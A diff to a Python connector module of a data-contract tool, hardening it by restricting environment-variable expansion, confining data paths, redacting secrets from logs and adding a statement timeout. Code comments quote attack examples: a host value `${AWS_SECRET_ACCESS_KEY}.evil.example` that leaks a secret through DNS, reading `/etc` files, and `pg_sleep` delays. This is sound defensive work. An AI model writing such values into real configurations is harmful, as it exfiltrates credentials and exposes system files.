@@ -14,15 +14,26 @@ from sqlglot import exp
 from lockgate.errors import LockgateError
 
 _ENV = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)(?::-([^}]*))?\}")
+# A contract is untrusted: `host: ${AWS_SECRET_ACCESS_KEY}.evil.example` would send any variable
+# of the CI job out in a DNS lookup. Contracts may name only lockgate's own variables, and never
+# the credentials (those are read by the connectors themselves).
+ENV_PREFIX = "LOCKGATE_"
+CREDENTIAL_VARIABLES = frozenset({"LOCKGATE_POSTGRES_PASSWORD", "LOCKGATE_POSTGRES_USER"})
 
 
 def expand_env(value: Any) -> Any:
-    """`${VAR}` and `${VAR:-default}` in server fields, so secrets and paths stay out of contracts."""
+    """`${LOCKGATE_VAR}` and `${LOCKGATE_VAR:-default}` in server fields, so paths and hosts stay
+    out of contracts."""
     if not isinstance(value, str):
         return value
 
     def replace(match: re.Match) -> str:
         name, default = match.group(1), match.group(2)
+        if not name.startswith(ENV_PREFIX) or name in CREDENTIAL_VARIABLES:
+            raise LockgateError(
+                f"a contract may only use {ENV_PREFIX}* environment variables other than the "
+                f"credentials; ${{{name}}} is not allowed (SECURITY.md)"
+            )
         if name in os.environ:
             return os.environ[name]
         if default is not None:
@@ -30,6 +41,53 @@ def expand_env(value: Any) -> Any:
         raise LockgateError(f"environment variable {name} is not set (used in a server definition)")
 
     return _ENV.sub(replace, value)
+
+
+DATA_ROOTS_ENV = "LOCKGATE_DATA_ROOTS"
+
+
+def check_data_path(path: str, server_name: str) -> None:
+    """With LOCKGATE_DATA_ROOTS set (paths separated by the OS path separator), a DuckDB file
+    or local data path must lie inside one of them: a contract names its own files, and a
+    `local` server on `/etc/{object}` with format csv would otherwise read any text file the
+    process can (its rows come back as failure samples)."""
+    roots = [r for r in (os.environ.get(DATA_ROOTS_ENV) or "").split(os.pathsep) if r.strip()]
+    if not roots or path == ":memory:":
+        return
+    resolved = os.path.realpath(path)
+    inside = (os.path.join(os.path.realpath(r), "") for r in roots)
+    if not any(os.path.join(resolved, "").startswith(root) for root in inside):
+        from lockgate.errors import ConnectionFailed
+
+        raise ConnectionFailed(f"server {server_name!r}: its data path is outside {DATA_ROOTS_ENV}")
+
+
+def env_refusal(value: Any) -> str | None:
+    """Why `value` (a server field) may not be expanded, or None; for lint."""
+    if not isinstance(value, str):
+        return None
+    for match in _ENV.finditer(value):
+        name = match.group(1)
+        if not name.startswith(ENV_PREFIX) or name in CREDENTIAL_VARIABLES:
+            return (
+                f"${{{name}}}: a contract may only use {ENV_PREFIX}* environment variables "
+                "other than the credentials"
+            )
+    return None
+
+
+def redact(text: str, options: dict[str, Any]) -> str:
+    """`text` with every value that came from the environment shown as the `${VAR}` the contract
+    wrote: a contract must not get a secret printed into a CI log by naming it as a host."""
+    for raw in options.values():
+        if isinstance(raw, str) and "${" in raw:
+            try:
+                value = expand_env(raw)
+            except LockgateError:
+                continue
+            if value and value != raw:
+                text = text.replace(value, raw)
+    return text
 
 
 class Connector(ABC):
@@ -84,9 +142,35 @@ class Connector(ABC):
     def quote_column(self, column: str) -> str:
         return exp.to_identifier(column, quoted=True).sql(dialect=self.dialect)
 
+    def fetch_rule_value(self, sql: str) -> Any:
+        """The value of a contract's own SQL rule: `fetch_value` under the statement timeout
+        (`LOCKGATE_STATEMENT_TIMEOUT`); connectors whose database has no timeout of its own
+        override it."""
+        return self.fetch_value(sql)
+
     def fetch_value(self, sql: str) -> Any:
         names, rows = self.fetch(sql)
         if not rows:
             return None
         return rows[0][0]
 
+
+
+TIMEOUT_ENV = "LOCKGATE_STATEMENT_TIMEOUT"
+# A check's fused scan of a large table takes seconds; a rule that runs for minutes is a
+# mistake or an attack (`pg_sleep`, a cross join). PostgreSQL's units: "30s", "5min", "500ms".
+DEFAULT_STATEMENT_TIMEOUT = "30s"
+_UNITS = {"ms": 0.001, "s": 1.0, "min": 60.0, "h": 3600.0, "": 0.001}  # PostgreSQL: bare = ms
+
+
+def statement_timeout() -> str:
+    return os.environ.get(TIMEOUT_ENV) or DEFAULT_STATEMENT_TIMEOUT
+
+
+def statement_timeout_seconds() -> float:
+    """`statement_timeout()` in seconds (0: none), read the way PostgreSQL reads the setting."""
+    match = re.fullmatch(r"\s*([0-9.]+)\s*(ms|s|min|h)?\s*", statement_timeout())
+    if not match:
+        shown = f"{TIMEOUT_ENV}={statement_timeout()!r}"
+        raise LockgateError(f"{shown}: expected e.g. 30s, 500ms, 5min")
+    return float(match.group(1)) * _UNITS[match.group(2) or ""]
